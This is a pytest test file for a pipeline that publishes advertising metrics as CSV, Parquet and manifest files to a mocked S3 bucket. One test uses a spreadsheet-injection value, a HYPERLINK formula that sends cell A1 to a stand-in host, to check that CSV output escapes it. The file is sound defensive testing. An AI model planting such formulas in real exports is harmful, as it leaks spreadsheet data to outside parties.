"""From stored metrics to the files a data scientist loads, on moto."""

from __future__ import annotations

import csv
import hashlib
import json
from dataclasses import replace
from datetime import date
from decimal import Decimal
from typing import Any

import duckdb
import pytest

from adweir.model.metrics import Level, MetricRow
from adweir.model.times import Window
from adweir.runtime.app import App
from adweir.runtime.settings import Settings
from adweir.store.metrics.store import PullRows
from support.clock import FrozenClock
from support.crash import Crash, Killed
from support.empty_aws import make_bucket
from support.mmm_story import AMAZON, EUROPE, META, WINDOW, ad_day, of_ads, publisher, pull, two_platforms


@pytest.fixture
def app(tables: None, settings: Settings) -> App:
    app = App(settings, FrozenClock())
    make_bucket(settings.bucket)
    return app


def test_the_files_hold_the_stored_cents_and_the_manifest_vouches_for_them(app: App) -> None:
    two_platforms(app)

    [manifest] = publisher(app, META, AMAZON).publish("acme")

    daily = manifest["tables"]["daily"]
    assert daily["ready"], daily["findings"]
    assert daily["channels"] == ["amazon_ads", "meta_ads"]
    assert (daily["first"], daily["last"], daily["rows"]) == ("2026-11-01", "2026-11-19", 19)
    for entry in (daily["files"]["csv"], daily["files"]["parquet"], manifest["files"]["ad_reporting"]["csv"]):
        assert hashlib.sha256(app.raw.get_bytes(entry["key"])).hexdigest() == entry["sha256"]
    lines = app.raw.get_bytes(daily["files"]["csv"]["key"]).decode().splitlines()
    assert lines[0].startswith("time,amazon_ads_impressions,amazon_ads_spend,amazon_ads_clicks,meta_ads_impressions")
    assert lines[2].split(",")[:3] == ["2026-11-02", "0", "0"]
    stored = json.loads(app.raw.get_bytes("mmm/acme/USD/mmm_manifest.json"))
    assert stored == manifest


def test_numbers_that_are_unknown_are_named_where_they_count_as_nothing(app: App) -> None:
    """As conversions of a pixel whose column nobody has named, or of actions that were chosen later."""
    two_platforms(app)
    days = [ad_day("g1~a1", day, day * 1_010_000) for day in range(1, 20)]
    for row in (days[3], days[4]):
        row.conversions = None
    pull(app, EUROPE.model_copy(update={"currency": "USD"}), "all", WINDOW, *days)

    [manifest] = publisher(app, META, AMAZON, EUROPE.model_copy(update={"currency": "USD"})).publish("acme")

    daily = manifest["tables"]["daily"]
    (finding,) = (each for each in daily["findings"] if each["gate"] == "unknown")
    assert (finding["severity"], daily["ready"]) == ("warn", True)
    said = "meta_ads#33: some or all conversions are unknown and count as 0 on 2 days: 2026-11-04, 2026-11-05"
    assert finding["message"] == said


def test_parquet_has_the_types_that_each_reader_wants(app: App, tmp_path: Any) -> None:
    two_platforms(app)
    [manifest] = publisher(app, META, AMAZON).publish("acme")

    def described(entry: dict[str, Any]) -> dict[str, str]:
        file = tmp_path / "x.parquet"
        file.write_bytes(app.raw.get_bytes(entry["parquet"]["key"]))
        table = duckdb.read_parquet(str(file))
        return {name: str(kind) for name, kind in zip(table.columns, table.types, strict=True)}

    wide = described(manifest["tables"]["daily"]["files"])
    tidy = described(manifest["files"]["ad_reporting"])
    assert (wide["time"], wide["meta_ads_spend"]) == ("VARCHAR", "DOUBLE")
    assert (tidy["date_day"], tidy["spend"], tidy["clicks"]) == ("DATE", "DECIMAL(24,6)", "BIGINT")
    [(total,)] = duckdb.read_parquet(str(tmp_path / "x.parquet")).sum("spend").fetchall()
    assert total == Decimal(sum(range(1, 20)) * 1_010_000 + sum(range(1, 20, 2)) * 20_000) / 1_000_000


def test_no_name_is_a_formula_for_a_spreadsheet_and_parquet_has_it_as_it_is(app: App, tmp_path: Any) -> None:
    hostile = META.model_copy(update={"name": '=HYPERLINK("https://x.example?"&A1)'})
    pull(app, hostile, "all", WINDOW, *(ad_day("g~1", day, -1_000_000) for day in range(1, 20)))
    (manifest,) = publisher(app, hostile).publish("acme")
    files = manifest["files"]["ad_reporting"]

    rows = list(csv.DictReader(lines_of(app, files)))

    assert {row["account_name"] for row in rows} == {f"'{hostile.name}"}
    assert {row["spend"] for row in rows if row["ad_id"]} == {"-1"}
    parquet = tmp_path / "x.parquet"
    parquet.write_bytes(app.raw.get_bytes(files["parquet"]["key"]))
    table = duckdb.read_parquet(str(parquet))
    assert set(table.project("account_name").fetchall()) == {(hostile.name,)}


def test_building_twice_gives_the_same_bytes(app: App) -> None:
    two_platforms(app)
    once = publisher(app, META, AMAZON).publish("acme")
    assert publisher(app, META, AMAZON).publish("acme") == once


def test_what_is_up_to_date_is_not_stored_again(app: App, monkeypatch: pytest.MonkeyPatch) -> None:
    two_platforms(app)
    first = publisher(app, META, AMAZON).publish("acme")
    writes = Crash()
    writes.watch(app.raw, "put", put=monkeypatch.setattr)

    assert publisher(app, META, AMAZON).publish("acme") == first
    assert writes.writes == 0
    pull(app, META, "all", Window(WINDOW.end, WINDOW.end), ad_day("g1~a1", 19, 7))  # the same moment: not newer
    assert publisher(app, META, AMAZON).publish("acme") == first
    renamed = META.model_copy(update={"timezone": "Europe/Berlin"})
    (other,) = publisher(app, renamed, AMAZON).publish("acme")
    assert other["inputs"] != first[0]["inputs"]
    assert writes.writes > 0


def test_files_that_a_dead_worker_left_behind_are_made_again(app: App, monkeypatch: pytest.MonkeyPatch) -> None:
    """Given a worker that died amid the files of other inputs, when the inputs are what they were before it."""
    two_platforms(app)
    (first,) = publisher(app, META, AMAZON).publish("acme")
    key, renamed = first["files"]["ad_reporting"]["csv"]["key"], META.model_copy(update={"name": "Other"})
    with monkeypatch.context() as patch:
        crash = Crash(at=2, after=True)
        crash.watch(app.raw, "put", put=patch.setattr)
        with pytest.raises(Killed):
            publisher(app, renamed, AMAZON).publish("acme")
    assert hashlib.sha256(app.raw.get_bytes(key)).hexdigest() != first["files"]["ad_reporting"]["csv"]["sha256"]

    assert publisher(app, META, AMAZON).publish("acme") == [first]
    assert hashlib.sha256(app.raw.get_bytes(key)).hexdigest() == first["files"]["ad_reporting"]["csv"]["sha256"]


def test_a_slice_that_was_not_pulled_stops_the_table_and_leaves_no_file(app: App) -> None:
    two_platforms(app)
    late = Window(date(2026, 11, 1), date(2026, 11, 9))
    pull(app, EUROPE, "all", late, *(ad_day("g1~a3", day, day * 1_000_000) for day in range(1, 10)))
    later = Window(date(2026, 11, 12), date(2026, 11, 19))
    pull(app, EUROPE, "all", later, *(ad_day("g1~a3", day, day * 1_000_000) for day in range(12, 20)))

    by_currency = {m["currency"]: m for m in publisher(app, META, AMAZON, EUROPE).publish("acme")}

    assert by_currency["USD"]["tables"]["daily"]["ready"]
    europe = by_currency["EUR"]["tables"]["daily"]
    assert not europe["ready"]
    assert "2026-11-10, 2026-11-11" in europe["findings"][0]["message"]
    assert "files" not in europe


def test_a_slice_that_a_profile_does_not_have_is_not_missing(app: App) -> None:
    # given a profile without Sponsored Brands, and one to which nothing is applicable
    pull(app, AMAZON, "sp", WINDOW, *(ad_day("g1~a2", day, day * 20_000, "sp") for day in range(1, 20)))
    for slice_ in ("sb", "sd"):
        app.metrics.skip(of_ads(AMAZON, slice_, WINDOW))
    empty = AMAZON.model_copy(update={"profile_id": "44"})
    for slice_ in ("sp", "sb", "sd"):
        app.metrics.skip(of_ads(empty, slice_, WINDOW))
    # when its dataset is built
    [manifest] = publisher(app, AMAZON, empty).publish("acme")
    # then every day counts, and the profile without data is named
    daily = manifest["tables"]["daily"]
    assert (daily["ready"], daily["first"], daily["rows"]) == (True, "2026-11-01", 19), daily["findings"]
    assert manifest["profiles_left_out"] == {"amazon_ads#44": "never pulled"}


def test_a_profile_without_permission_is_left_out_and_named(app: App) -> None:
    two_platforms(app)
    denied = AMAZON.model_copy(update={"status": "denied"})
    [manifest] = publisher(app, META, denied).publish("acme")
    assert manifest["profiles_left_out"] == {"amazon_ads#22": "profile is denied"}
    assert manifest["tables"]["daily"]["channels"] == ["meta_ads"]


def test_an_account_without_pulls_has_no_dataset(app: App) -> None:
    assert publisher(app, META).publish("acme") == []


def test_totals_are_the_accounts_and_what_the_ads_leave_has_a_row_of_its_own(app: App) -> None:
    # given ads that lack a deleted one: the account has spent more than they have
    two_platforms(app)
    totals = [MetricRow("11", f"2026-11-{day:02}", 1000 + day, 10, 0, day * 2_000_000, 0) for day in range(1, 20)]
    found = PullRows()
    for row in totals:
        found.offer(row)
    app.metrics.load(replace(of_ads(META, "all", WINDOW), level=Level.ACCOUNT), found)
    # when the dataset is built
    [manifest] = publisher(app, META, AMAZON).publish("acme")
    # then the wide table has the account's spend
    daily = csv.DictReader(lines_of(app, manifest["tables"]["daily"]["files"]))
    assert [Decimal(row["meta_ads_spend"]) for row in daily] == [Decimal(2 * day) for day in range(1, 20)]
    # and the tidy one says what the ads leave of it
    tidy = [
        row for row in csv.DictReader(lines_of(app, manifest["files"]["ad_reporting"])) if row["platform"] == "meta_ads"
    ]
    rest = [row for row in tidy if row["ad_name"] == "unattributed"]
    assert len(rest) == 19
    assert {(row["ad_id"], row["campaign_id"], row["campaign_name"]) for row in rest} == {("", "", "unattributed")}
    assert sum(Decimal(row["spend"]) for row in tidy) == sum(2 * day for day in range(1, 20))


def lines_of(app: App, entry: dict[str, Any]) -> list[str]:
    return app.raw.get_bytes(entry["csv"]["key"]).decode().splitlines()


def test_an_account_that_only_its_totals_cover_is_published_too(app: App) -> None:
    found = PullRows()
    for day in range(1, 20):
        found.offer(MetricRow("11", f"2026-11-{day:02}", 1000 + day, 10, day, day * 2_000_000, 0))
    app.metrics.load(replace(of_ads(META, "all", WINDOW), level=Level.ACCOUNT), found)
    [manifest] = publisher(app, META).publish("acme")
    assert (manifest["tables"]["daily"]["ready"], manifest["files"]["ad_reporting"]["rows"]) == (True, 19)


def test_a_profile_of_an_unknown_time_zone_is_left_out_and_named(app: App) -> None:
    two_platforms(app)
    lost = EUROPE.model_copy(update={"currency": "USD", "timezone": "Mars/Olympus"})
    [manifest] = publisher(app, META, AMAZON, lost).publish("acme")
    assert manifest["profiles_left_out"] == {"meta_ads#33": "unknown time zone 'Mars/Olympus'"}


def test_the_last_settled_day_is_the_last_that_is_final_everywhere(app: App) -> None:
    # given both platforms' days since summer, pulled now: Meta settles after 28 days, Amazon after 60
    summer = Window(date(2026, 9, 1), date(2026, 11, 19))
    app.metrics.load(replace(of_ads(META, "all", summer), level=Level.ACCOUNT), PullRows())
    [manifest] = publisher(app, META).publish("acme")
    assert manifest["last_settled_date"] == "2026-10-22"
    for slice_ in ("sp", "sb", "sd"):
        app.metrics.load(replace(of_ads(AMAZON, slice_, summer), level=Level.CAMPAIGN), PullRows())
    [manifest] = publisher(app, META, AMAZON).publish("acme")
    assert manifest["last_settled_date"] == "2026-09-20"


def test_a_dataset_begins_after_its_ad_account_changed_its_currency(app: App) -> None:
    # given an ad account that had dollars until the 2nd and has euros since, but whose ads of the 3rd came before that
    before, after = Window(date(2026, 11, 1), date(2026, 11, 3)), Window(date(2026, 11, 3), date(2026, 11, 19))
    ads = [ad_day("g1~a1", day, day * 1_000_000, currency="USD") for day in range(1, 4)]
    pull(app, META, "all", before, *ads)
    account = replace(of_ads(META, "all", before), level=Level.ACCOUNT)
    for window, currency in ((Window(before.start, date(2026, 11, 2)), "USD"), (after, "EUR")):
        totals = PullRows()
        for day in range(window.start.day, window.end.day + 1):
            totals.offer(
                MetricRow("11", f"2026-11-{day:02}", 9000 + day, 90, day, day * 2_000_000, 0, currency=currency)
            )
        app.metrics.load(replace(account, window=window, currency=currency), totals)
    # when the dataset of the euros is made
    [manifest] = publisher(app, META.model_copy(update={"currency": "EUR"})).publish("acme")
    # then it begins with them, and sums nothing else
    assert (manifest["currency"], manifest["first_date"]) == ("EUR", "2026-11-03")
    rows = list(csv.DictReader(lines_of(app, manifest["files"]["ad_reporting"])))
    assert {row["currency"] for row in rows} == {"EUR"}
    assert sum(Decimal(row["spend"]) for row in rows) == sum(day * 2 for day in range(3, 20))
    wide = list(csv.DictReader(lines_of(app, manifest["tables"]["daily"]["files"])))
    assert [(row["time"], row["meta_ads_spend"]) for row in wide[:2]] == [("2026-11-03", "6"), ("2026-11-04", "8")]
